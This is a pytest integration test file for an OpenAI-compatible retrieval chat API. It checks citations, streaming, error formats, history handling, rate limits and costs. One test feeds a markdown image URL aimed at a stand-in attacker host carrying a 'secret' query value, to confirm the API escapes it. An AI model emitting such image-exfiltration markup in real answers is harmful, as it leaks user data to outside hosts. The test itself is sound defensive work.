"""The OpenAI-compatible API: models, answers with citations, streams, history, tasks, and errors."""

from __future__ import annotations

import json
from contextlib import ExitStack
from typing import Any

import pytest

from llama_index_contextual.api import app as api
from llama_index_contextual.api.chat import SOURCES
from llama_index_contextual.ui.users import ANSWERS_OF_USER, Limits, RefusedError, new_user
from tests.integration.api.conftest import ANSWER, PUMP, QUESTION, Server
from tests.support.replies import Reply


def error(response: Any) -> tuple[int, str, str | None]:
    """Return the status, the type and the code of an error in OpenAI's form."""
    body = response.json()
    assert set(body) == {"error"}
    assert set(body["error"]) == {"message", "type", "param", "code"}
    assert body["error"]["message"]
    return response.status_code, body["error"]["type"], body["error"]["code"]


def chunks(response: Any) -> list[dict[str, Any]]:
    """Return the events of a stream."""
    lines = [line for line in response.text.split("\n\n") if line]
    assert lines[-1] == "data: [DONE]"
    return [json.loads(line.removeprefix("data: ")) for line in lines[:-1]]


# ---- models ----------------------------------------------------------------------------------------------------------


def test_each_project_is_a_model_and_so_are_its_passages(server: Server) -> None:
    listed = server.get("/v1/models").json()
    assert listed["object"] == "list"
    names = ["plant", "plant:passages", "empty", "empty:passages"]
    assert [one["id"] for one in listed["data"]] == names
    assert {one["object"] for one in listed["data"]} == {"model"}
    assert server.get("/v1/models/plant:passages").json() == listed["data"][1]
    assert error(server.get("/v1/models/other")) == (404, "not_found_error", "model_not_found")
    of_users = {
        user: [one["id"] for one in server.get("/v1/models", user).json()["data"]] for user in ("finder", "asker")
    }
    assert of_users == {"finder": names[1::2], "asker": names[::2]}


# ---- an answer -------------------------------------------------------------------------------------------------------


def test_an_answer_cites_in_its_text_and_in_annotations(server: Server) -> None:
    server.provider.enqueue(ANSWER)
    body = server.ask().json()
    (choice,) = body["choices"]
    content = choice["message"]["content"]
    assert (body["object"], body["model"], choice["finish_reason"]) == ("chat.completion", "plant", "stop")
    assert content.startswith(f"{ANSWER}{SOURCES}- [Source 1] [")
    assert "“Pump P-7 stops after three days without oil.”" in content
    (annotation,) = choice["message"]["annotations"]
    citation = annotation["url_citation"]
    assert annotation["type"] == "url_citation"
    assert content[citation["start_index"] : citation["end_index"]] == "[Source 1]"
    assert (citation["doc_id"], citation["quote"]) == ("pumps.md", "Pump P-7 stops after three days without oil.")
    page = server.get(citation["url"].removeprefix("http://127.0.0.1:8010").partition("#")[0])
    assert page.status_code == 200
    assert "<mark" in page.text
    totals, usage = server.provider.totals(), body["usage"]
    assert totals["paid_calls"] == 1
    assert [usage[name] for name in ("prompt_tokens", "completion_tokens")] == [
        totals["prompt_tokens"],
        totals["completion_tokens"],
    ]
    assert usage["total_tokens"] == usage["prompt_tokens"] + usage["completion_tokens"]


def test_a_stream_has_the_same_text_annotations_and_usage(server: Server) -> None:
    server.provider.enqueue(ANSWER, ANSWER)
    whole = server.ask().json()
    response = server.ask(stream=True, stream_options={"include_usage": True})
    assert response.headers["content-type"].startswith("text/event-stream")
    pieces = chunks(response)
    assert {piece["object"] for piece in pieces} == {"chat.completion.chunk"}
    assert len({piece["id"] for piece in pieces}) == 1
    deltas = [piece["choices"][0]["delta"] for piece in pieces if piece["choices"]]
    assert deltas[0] == {"role": "assistant", "content": ""}
    message = whole["choices"][0]["message"]
    assert "".join(delta.get("content", "") for delta in deltas) == message["content"]
    assert [delta["annotations"] for delta in deltas if "annotations" in delta] == [message["annotations"]]
    assert [p["choices"][0]["finish_reason"] for p in pieces if p["choices"]][-1] == "stop"
    assert (pieces[-1]["choices"], pieces[-1]["usage"]) == ([], whole["usage"])
    server.provider.enqueue(ANSWER)
    assert all("usage" not in piece for piece in chunks(server.ask(stream=True)))


def test_what_the_passages_do_not_support_is_said_below_the_answer(server: Server) -> None:
    server.provider.enqueue("It “costs a lot of money each year” [Source 1], and 77 crowns [Source 1].")
    content = server.ask().json()["choices"][0]["message"]["content"]
    assert "⚠ 1 quotation in no passage: “costs a lot of money each year”" in content
    assert "⚠ 1 figure in no cited passage: “77”" in content


def test_images_in_an_answer_are_not_loaded_by_the_client(server: Server) -> None:
    server.provider.enqueue("Look: ![x](http://evil.example/?q=secret) and !")
    content = server.ask(stream=True)
    text = "".join(piece["choices"][0]["delta"].get("content", "") for piece in chunks(content) if piece["choices"])
    assert "![" not in text
    assert text.startswith("Look: !\\[x](http://evil.example/?q=secret) and !")


def test_passages_are_returned_without_an_llm_and_their_markup_is_escaped(server: Server) -> None:
    body = server.ask("pump oil", model="plant:passages").json()
    content = body["choices"][0]["message"]["content"]
    assert content.startswith("**[Source 1]** [")
    assert "> " in content
    assert "Pump P-7 stops after three days without oil." in content
    assert "\n# " not in content
    citation = body["choices"][0]["message"]["annotations"][0]["url_citation"]
    assert content[citation["start_index"] : citation["end_index"]].startswith("**[Source 1]** ")
    assert body["usage"]["total_tokens"] == 0
    assert server.provider.calls() == []


def test_the_history_reaches_the_search_and_the_prompt_without_its_list_of_sources(server: Server) -> None:
    server.provider.enqueue("Oil it [Source 1].")
    messages = [
        {"role": "system", "content": "You are a pirate."},
        {"role": "user", "content": QUESTION},
        {"role": "assistant", "content": f"{ANSWER}{SOURCES}- [Source 1] old quotation"},
        {"role": "user", "content": [{"type": "text", "text": "And how is that avoided?"}]},
    ]
    response = server.post("/v1/chat/completions", {"model": "plant", "messages": messages})
    assert response.status_code == 200
    (call,) = server.provider.calls()
    prompt = json.dumps(call.body["messages"], ensure_ascii=False)
    assert "after three days without oil" in prompt
    assert QUESTION in prompt
    assert "old quotation" not in prompt
    assert "pirate" not in prompt


def test_requests_that_clients_send_on_their_own_cost_nothing(server: Server) -> None:
    prompt = (
        "### Task:\nGenerate a concise, 3-5 word title with an emoji summarizing the chat history.\n### Output:\n"
        f'JSON format: {{ "title": "your title" }}\n<chat_history>\nUSER: {QUESTION}\n</chat_history>'
    )
    body = server.ask(prompt).json()
    assert json.loads(body["choices"][0]["message"]["content"]) == {"title": QUESTION}
    assert chunks(server.ask(prompt, stream=True))[1]["choices"][0]["delta"]["content"] == json.dumps(
        {"title": QUESTION}
    )
    assert server.provider.calls() == []


def test_tools_are_ignored_unless_one_is_required(server: Server) -> None:
    tools = [{"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}]
    server.provider.enqueue(ANSWER)
    assert server.ask(tools=tools, tool_choice="auto", temperature=0.3, seed=1).status_code == 200
    for choice in ("required", {"type": "function", "function": {"name": "f"}}):
        assert error(server.ask(tools=tools, tool_choice=choice)) == (400, "invalid_request_error", "unsupported_value")
    assert len(server.provider.calls()) == 1


# ---- errors ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "status", "param"),
    [
        ({"model": "other"}, 404, "model"),
        ({"model": "other:passages"}, 404, "model"),
        ({"model": None}, 400, "model"),
        ({"messages": []}, 400, "messages"),
        ({"messages": "hello"}, 400, "messages"),
        ({"messages": [{"role": "user", "content": " "}]}, 400, "messages"),
        ({"messages": [{"role": "assistant", "content": "Hi"}]}, 400, "messages"),
        ({"messages": [{"role": "user", "content": "x" * 4_001}]}, 400, "messages"),
        (
            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}]},
            400,
            "messages",
        ),
        ({"n": 2}, 400, "n"),
        ({"response_format": {"type": "json_object"}}, 400, "response_format"),
        ({"stream": "perhaps"}, 400, "stream"),
        ({"filters": {"group": "nobody"}}, 400, None),
        ({"model": "empty"}, 400, None),
    ],
)
def test_a_wrong_request_is_explained_in_the_form_of_openai(
    server: Server, fields: dict[str, Any], status: int, param: str | None
) -> None:
    body = {"model": "plant", "messages": [{"role": "user", "content": QUESTION}], **fields}
    response = server.post("/v1/chat/completions", body)
    assert error(response)[0] == status
    assert response.json()["error"]["param"] == param
    assert server.provider.calls() == []


def test_a_body_that_is_no_object_or_too_large_is_refused(server: Server) -> None:
    def send(content: bytes) -> Any:
        return server.client.post("/v1/chat/completions", content=content, headers=server.headers("ada"))

    for content in (b"", b"{", b"[1]", b"null", b"\xff\xfe", b"[" * 100_000):
        assert error(send(content))[0::2] == (400, "invalid_json")
    assert error(send(b"x" * (api.MAX_BODY + 1)))[0::2] == (413, "request_too_large")
    assert error(server.get("/v1/chat/completions"))[0] == 405
    assert error(server.get("/v1/embeddings"))[0] == 404


def test_a_model_that_cannot_be_reached_is_named_before_a_stream_begins(server: Server) -> None:
    for stream in (False, True):
        server.provider.reset()
        server.provider.fail_randomly(1.0, seed=1, kinds=["server_error"])
        response = server.ask(stream=stream)
        assert error(response)[0::2] == (503, "model_unavailable")
        assert int(response.headers["retry-after"]) >= 1


def test_an_answer_that_breaks_off_is_marked_as_incomplete(server: Server) -> None:
    server.provider.enqueue(Reply("It stops after", finish_reason="length"))
    body = server.ask().json()
    assert body["choices"][0]["finish_reason"] == "length"
    assert "⚠ The answer is incomplete" in body["choices"][0]["message"]["content"]


# ---- limits ----------------------------------------------------------------------------------------------------------


def test_requests_in_a_minute_are_limited_for_each_user(server: Server) -> None:
    assert [server.get("/v1/models", "slow").status_code for _ in range(4)] == [200, 200, 200, 429]
    response = server.get("/v1/models", "slow")
    assert error(response) == (429, "rate_limit_error", "rate_limit_exceeded")
    assert 1 <= int(response.headers["retry-after"]) <= 60
    assert server.get("/v1/models", "ada").status_code == 200


def test_a_user_who_has_spent_the_limit_is_refused_before_a_call(server: Server) -> None:
    server.provider.enqueue(ANSWER, ANSWER)
    assert server.ask(user="poor").status_code == 200
    response = server.ask(user="poor")
    assert error(response) == (429, "rate_limit_error", "insufficient_quota")
    assert len(server.provider.calls()) == 1
    assert server.ask("pump", user="poor", model="plant:passages").status_code == 200, "passages cost nothing"
    assert server.ask(user="ada").status_code == 200
    asked = server.client.post("/p/plant/ask", data={"q": QUESTION}, headers=server.headers("poor"))
    assert (asked.status_code, "for answers in an hour is reached" in asked.text) == (429, True), (
        "in the Workbench, too"
    )


def test_answers_at_a_time_are_limited_for_each_user_and_in_all() -> None:
    limits = Limits()
    users = [new_user(f"user{number}") for number in range(9)]
    with ExitStack() as running:
        for user in users[:8]:
            for _ in range(ANSWERS_OF_USER):
                running.enter_context(limits.answering(user))
        with pytest.raises(RefusedError) as one, limits.answering(users[0]):
            pass
        assert (one.value.status, one.value.code) == (429, "rate_limit_exceeded")
        with pytest.raises(RefusedError) as all_of_them, limits.answering(users[8]):
            pass
        assert (all_of_them.value.status, all_of_them.value.code) == (503, "busy")
    with limits.answering(users[8]):
        pass


def test_what_the_answers_cost_is_what_the_provider_charged(server: Server) -> None:
    server.provider.enqueue(ANSWER, ANSWER, ANSWER)
    usages = [server.ask().json()["usage"] for _ in range(3)]
    totals = server.provider.totals()
    assert sum(usage["prompt_tokens"] for usage in usages) == totals["prompt_tokens"]
    assert sum(usage["completion_tokens"] for usage in usages) == totals["completion_tokens"]
    expected = (totals["prompt_tokens"] * 0.15 + totals["completion_tokens"] * 0.6) / 1e6
    assert server.project.cost().answers == pytest.approx(expected)


def test_text_of_documents_is_only_quoted(server: Server) -> None:
    assert "# Pumps" in PUMP
    content = server.ask("pumps", model="plant:passages").json()["choices"][0]["message"]["content"]
    assert all(line.startswith((">", "**[Source")) for line in content.splitlines() if line)
